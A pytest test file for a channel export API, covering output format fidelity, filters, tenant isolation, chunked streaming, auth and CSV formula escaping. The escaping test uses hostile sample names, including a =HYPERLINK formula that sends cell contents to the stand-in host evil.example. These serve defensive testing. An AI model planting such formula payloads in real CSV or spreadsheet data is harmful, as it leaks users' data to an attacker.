"""GET /api/channels/export: NDJSON and CSV bodies are the API's rendering of every channel, the
list's filters and order apply, another tenant's channels never appear, the body is streamed
chunk by chunk (one bounded query per chunk), and every CSV cell is formula-escaped."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from sqlalchemy import event, select, update

from core.csv_cells import escape_cell, unescape_cell
from core.extensions import db
from core.models import Channel
from core.serializers import channel_to_api
from core.services import channel_export
from core.services.channel_export import CSV_HEADER, ExportFilters, channel_object, export_rows
from core.services.channels import update_channel
from tests import factories

EXPORT = "/api/channels/export"


def ndjson(response) -> list[dict]:
    """The objects of an NDJSON body, one a line (every line ends with a newline)."""
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "application/x-ndjson"
    text = response.get_data(as_text=True)
    assert text == "" or text.endswith("\n")
    return [json.loads(line) for line in text.splitlines()]


def csv_rows(response) -> list[list[str]]:
    """The records of a CSV body, header first."""
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


def listed(api, query: str = "") -> list[dict]:
    """Every channel GET /api/channels returns for ``query``, page after page."""
    found, cursor = [], None
    while True:
        url = f"/api/channels?limit=2&{query}" + (f"&cursor={cursor}" if cursor else "")
        body = api.get(url).get_json()
        found += body["data"]
        cursor = body["next_cursor"]
        if cursor is None:
            return found


@pytest.fixture
def catalogue(setup):
    """Channels of both types and every status, with metadata, one changed after creation."""
    pending = factories.make_domain(setup.tenant, "example.org", verified=False)
    made = [
        factories.make_channel(setup, "email", name="Support Email", metadata={"team": "care"}),
        factories.make_channel(
            setup, "email", name="Ünïcode “quotes”, commas", metadata={"n": 1.5, "ok": True}
        ),
        factories.make_channel(
            setup,
            "email",
            name="Pending news",
            email_domain_id=pending.id,
            send_from_email="n@example.org",
        ),
        factories.make_channel(
            setup, "sms", name="Alerts SMS", metadata={"note": 'line\nbreak, "quoted"'}
        ),
        factories.make_channel(setup, "sms", name="Marketing SMS"),
    ]
    update_channel(setup.tenant.id, made[-1].id, {"status": "disabled"}, factories.ACTOR)
    db.session.commit()
    return made


# --- the bodies are the API's rendering ---------------------------------------------------------


def test_every_ndjson_line_is_the_single_get_of_its_channel(api, catalogue):
    """Line by line, newest first: the very object GET /api/channels/{id} answers (same keys,
    same key order, same values), updated_at included."""
    lines = api.get(EXPORT).get_data(as_text=True).splitlines()
    assert len(lines) == len(catalogue)
    for line, channel in zip(lines, reversed(catalogue), strict=True):
        single = api.get(f"/api/channels/{channel.id}").get_json()
        exported = json.loads(line)
        assert exported == single
        assert list(exported) == list(single)


def test_row_rendering_is_channel_to_api(app, catalogue):
    """The fast path (column tuples) renders each row exactly as ``channel_to_api`` renders the
    ORM object, for both types and a channel never updated (updated_at falls back)."""
    db.session.execute(update(Channel).where(Channel.id == catalogue[0].id).values(updated_at=None))
    db.session.commit()
    rows = [row for chunk in export_rows(catalogue[0].tenant_id, ExportFilters()) for row in chunk]
    assert len(rows) == len(catalogue)
    for row in rows:
        db.session.expire_all()
        channel = db.session.get(Channel, row.id)
        assert json.dumps(channel_object(row)) == json.dumps(channel_to_api(channel))


def test_csv_is_the_header_then_the_api_rendering_escaped(api, catalogue):
    """The fixed header, then one record per channel whose cells are the API object's fields
    (metadata as JSON, the other type's fields empty), each cell through escape_cell."""
    rows = csv_rows(api.get(f"{EXPORT}?format=csv"))
    assert tuple(rows[0]) == CSV_HEADER == (
        "id", "name", "channel_type", "integration_id", "send_from_email", "email_domain_id",
        "send_from_phone_number", "phone_number_id", "status", "is_default", "metadata",
        "created_at", "updated_at",
    )  # fmt: skip
    assert len(rows) == len(catalogue) + 1
    for record, channel in zip(rows[1:], reversed(catalogue), strict=True):
        single = api.get(f"/api/channels/{channel.id}").get_json()
        expected = [
            escape_cell(json.dumps(single["metadata"], ensure_ascii=False, separators=(",", ":")))
            if name == "metadata"
            else escape_cell(single.get(name))
            for name in CSV_HEADER
        ]
        assert record == expected
        values = dict(zip(CSV_HEADER, map(unescape_cell, record), strict=True))
        assert json.loads(values["metadata"]) == single["metadata"]
        assert values["is_default"] == str(single["is_default"]).lower()


def test_an_empty_export(api, tenant):
    """No channel: an empty NDJSON body; a CSV of the header alone."""
    assert ndjson(api.get(EXPORT)) == []
    assert csv_rows(api.get(f"{EXPORT}?format=csv")) == [list(CSV_HEADER)]


def test_ndjson_is_the_default_and_the_download_is_named(api, tenant, setup):
    """No format: NDJSON. Both formats are attachments named after the tenant and the UTC day."""
    factories.make_channel(setup, "email")
    day = datetime.now(UTC).date().isoformat()
    # A streamed response holds its request context until its body is read: read each one.
    default = api.get(EXPORT)
    default_body = default.get_data()
    assert default.mimetype == "application/x-ndjson"
    disposition = f'attachment; filename="channels-{tenant.slug}-{day}.ndjson"'
    assert default.headers["Content-Disposition"] == disposition
    as_csv = api.get(f"{EXPORT}?format=csv")
    as_csv.get_data()
    disposition = f'attachment; filename="channels-{tenant.slug}-{day}.csv"'
    assert as_csv.headers["Content-Disposition"] == disposition
    assert api.get(f"{EXPORT}?format=ndjson").get_data() == default_body


# --- filters, order, isolation ------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "",
        "channel_type=sms",
        "channel_type=email",
        "status=disabled",
        "status=pending_verification",
        "status=available",
        "is_default=true",
        "is_default=false",
        "channel_type=email&is_default=true",
        "q=sms",
        "q=UNICODE",
        "q=nothing-matches",
        "channel_type=email&status=available&q=support",
    ],
)
@pytest.mark.parametrize("export_format", ["ndjson", "csv"])
def test_filters_are_the_lists(api, catalogue, query, export_format):
    """Each filter keeps exactly the channels the list keeps, in the list's order."""
    expected = [c["id"] for c in listed(api, query)]
    response = api.get(f"{EXPORT}?format={export_format}&{query}")
    if export_format == "ndjson":
        assert [c["id"] for c in ndjson(response)] == expected
    else:
        assert [r[0] for r in csv_rows(response)[1:]] == expected


def test_order_is_stable_across_chunks_and_equal_timestamps(api, setup, monkeypatch):
    """Chunks of 2 over 9 channels, 5 of them created at the same instant: newest first, ties
    by id descending, each channel exactly once (the keyset compares (created_at, id))."""
    monkeypatch.setattr(channel_export, "EXPORT_CHUNK", 2)
    made = [factories.make_channel(setup, "email") for _ in range(9)]
    same = datetime(2026, 1, 1, 12, 0, 0, 123456, tzinfo=UTC)
    tied = [c.id for c in made[2:7]]
    db.session.execute(update(Channel).where(Channel.id.in_(tied)).values(created_at=same))
    db.session.commit()
    expected = list(
        db.session.scalars(
            select(Channel.id)
            .where(Channel.tenant_id == setup.tenant.id)
            .order_by(Channel.created_at.desc(), Channel.id.desc())
        )
    )
    exported = [c["id"] for c in ndjson(api.get(EXPORT))]
    assert exported == expected == [c["id"] for c in listed(api)]
    assert len(set(exported)) == 9


def test_another_tenants_channels_never_appear(api, other_api, setup, other_setup):
    """Each key exports its own tenant's channels, whatever the filters; the other tenant's
    ids appear nowhere in the body."""
    mine = {factories.make_channel(setup, t).id for t in ("email", "sms")}
    theirs = {factories.make_channel(other_setup, t).id for t in ("email", "sms", "email")}
    for client, own, foreign in ((api, mine, theirs), (other_api, theirs, mine)):
        assert {c["id"] for c in ndjson(client.get(EXPORT))} == own
        assert {r[0] for r in csv_rows(client.get(f"{EXPORT}?format=csv"))[1:]} == own
        for query in ("", "?format=csv", "?q=e", "?channel_type=sms", "?is_default=true"):
            body = client.get(EXPORT + query).get_data(as_text=True)
            assert not any(channel_id in body for channel_id in foreign), query


# --- streaming -----------------------------------------------------------------------------------


@pytest.fixture
def channel_selects(app):
    """The SELECTs on the channels table, as they run."""
    statements: list[str] = []

    def record(_conn, _cursor, statement, *_):
        if statement.lstrip().upper().startswith("SELECT") and "FROM channels" in statement:
            statements.append(statement)

    event.listen(db.engine, "before_cursor_execute", record)
    yield statements
    event.remove(db.engine, "before_cursor_execute", record)


@pytest.mark.parametrize("export_format", ["ndjson", "csv"])
def test_the_body_is_streamed_one_bounded_query_per_chunk(
    api, setup, monkeypatch, channel_selects, export_format
):
    """Chunks of 2 over 7 channels: the response is a stream; the first query runs before the
    response is returned, each later one only when the client reads that far (4 queries with
    LIMIT 2 in all), and every row of every chunk arrives."""
    monkeypatch.setattr(channel_export, "EXPORT_CHUNK", 2)
    made = [factories.make_channel(setup, "sms" if n % 3 else "email") for n in range(7)]
    channel_selects.clear()
    response = api.get(f"{EXPORT}?format={export_format}", buffered=False)
    assert response.status_code == 200 and response.is_streamed
    assert len(channel_selects) == 1  # the first chunk, read before any byte is sent
    pieces = []
    for piece in response.response:
        pieces.append(piece)
        assert len(channel_selects) <= len(pieces) + 1  # never ahead of the reader by more than one
    response.close()
    assert len(channel_selects) == 4  # 2 + 2 + 2 + 1 rows
    assert all("LIMIT" in s.upper() for s in channel_selects)
    body = b"".join(p if isinstance(p, bytes) else p.encode() for p in pieces).decode()
    ids = [c.id for c in reversed(made)]
    if export_format == "ndjson":
        assert [json.loads(line)["id"] for line in body.splitlines()] == ids
        assert len(pieces) == 4
    else:
        assert [r[0] for r in csv.reader(io.StringIO(body, newline=""))][1:] == ids
        assert len(pieces) == 5  # the header, then one piece per chunk


def test_an_exact_multiple_of_the_chunk_ends_with_an_empty_query(
    api, setup, monkeypatch, channel_selects
):
    """4 channels in chunks of 2: two full chunks, then one query that finds nothing."""
    monkeypatch.setattr(channel_export, "EXPORT_CHUNK", 2)
    for _ in range(4):
        factories.make_channel(setup, "email")
    channel_selects.clear()
    assert len(ndjson(api.get(EXPORT))) == 4
    assert len(channel_selects) == 3


# --- formula escaping ----------------------------------------------------------------------------


def test_formula_cells_are_escaped_in_the_csv(api, setup):
    """A name such as =HYPERLINK(...), names starting with +, -, @, an E.164 number: each cell
    starts with an apostrophe; metadata values starting with those stay inside the JSON cell
    (which starts with "{"); the NDJSON keeps the values as they are."""
    hostile = {
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")': "email",
        "+SUM(1+1)": "email",
        "-2+3": "email",
        "@cmd": "sms",
    }
    for name, channel_type in hostile.items():
        factories.make_channel(
            setup,
            channel_type,
            name=name,
            metadata={"a": "=1+1", "b": "+cmd", "c": "-x", "d": "@y"},
        )
    records = csv_rows(api.get(f"{EXPORT}?format=csv"))[1:]
    by_name = {unescape_cell(r[1]): dict(zip(CSV_HEADER, r, strict=True)) for r in records}
    assert set(by_name) == set(hostile)
    for name, cells in by_name.items():
        assert cells["name"] == "'" + name
        assert cells["metadata"].startswith("{")
        assert json.loads(cells["metadata"]) == {"a": "=1+1", "b": "+cmd", "c": "-x", "d": "@y"}
        if cells["channel_type"] == "sms":
            assert cells["send_from_phone_number"] == "'" + setup.number.phone_number
    for record in records:
        for cell in record:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert {c["name"] for c in ndjson(api.get(EXPORT))} == set(hostile)


# --- errors, keys, routing ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query, parameter",
    [
        ("format=xml", "format"),
        ("format=CSV", "format"),
        ("format=", "format"),
        ("channel_type=fax", "channel_type"),
        ("status=gone", "status"),
        ("is_default=maybe", "is_default"),
    ],
)
def test_a_bad_parameter_is_400_in_the_envelope(api, tenant, query, parameter):
    """A bad format or filter: 400 bad_request naming the parameter, before any streaming."""
    response = api.get(f"{EXPORT}?{query}")
    assert response.status_code == 400
    assert response.mimetype == "application/json"
    error = response.get_json()["error"]
    assert error["code"] == "bad_request" and parameter in error["message"]


def test_a_read_key_exports_and_no_key_is_401(client, tenant, setup):
    """Read scope is enough; without a key (or with an unknown one), 401 in the envelope."""
    channel = factories.make_channel(setup, "email")
    reader = factories.ApiClient(client, factories.make_api_key(tenant, scope="read"))
    assert [c["id"] for c in ndjson(reader.get(EXPORT))] == [channel.id]
    assert csv_rows(reader.get(f"{EXPORT}?format=csv"))[1][0] == channel.id
    for headers in ({}, {"Authorization": "Bearer nope"}):
        response = client.get(EXPORT, headers=headers)
        assert response.status_code == 401
        assert response.get_json()["error"]["code"] == "unauthorized"


def test_the_export_path_is_not_a_channel_id(app, api, setup):
    """/api/channels/export is its own route, never /api/channels/{id} with id "export": its
    Allow lists GET alone and a PATCH or DELETE there is 405; ids that merely start with the
    word still reach the channel routes."""
    adapter = app.url_map.bind("localhost")
    assert adapter.match(EXPORT, method="GET")[0] == "api.export_channels"
    assert adapter.match("/api/channels/some-id", method="GET")[0] == "api.get_channel"
    assert adapter.match("/api/channels/exports", method="PATCH")[0] == "api.update_channel"
    options = api.client.options(EXPORT, headers={"Authorization": f"Bearer {api.key}"})
    assert set(options.headers["Allow"].split(", ")) == {"GET", "HEAD", "OPTIONS"}
    for method in ("patch", "delete"):
        response = getattr(api, method)(EXPORT)
        assert response.status_code == 405, method
        assert response.get_json()["error"]["code"] == "method_not_allowed"
    channel = factories.make_channel(setup, "email")
    assert [c["id"] for c in ndjson(api.get(EXPORT))] == [channel.id]
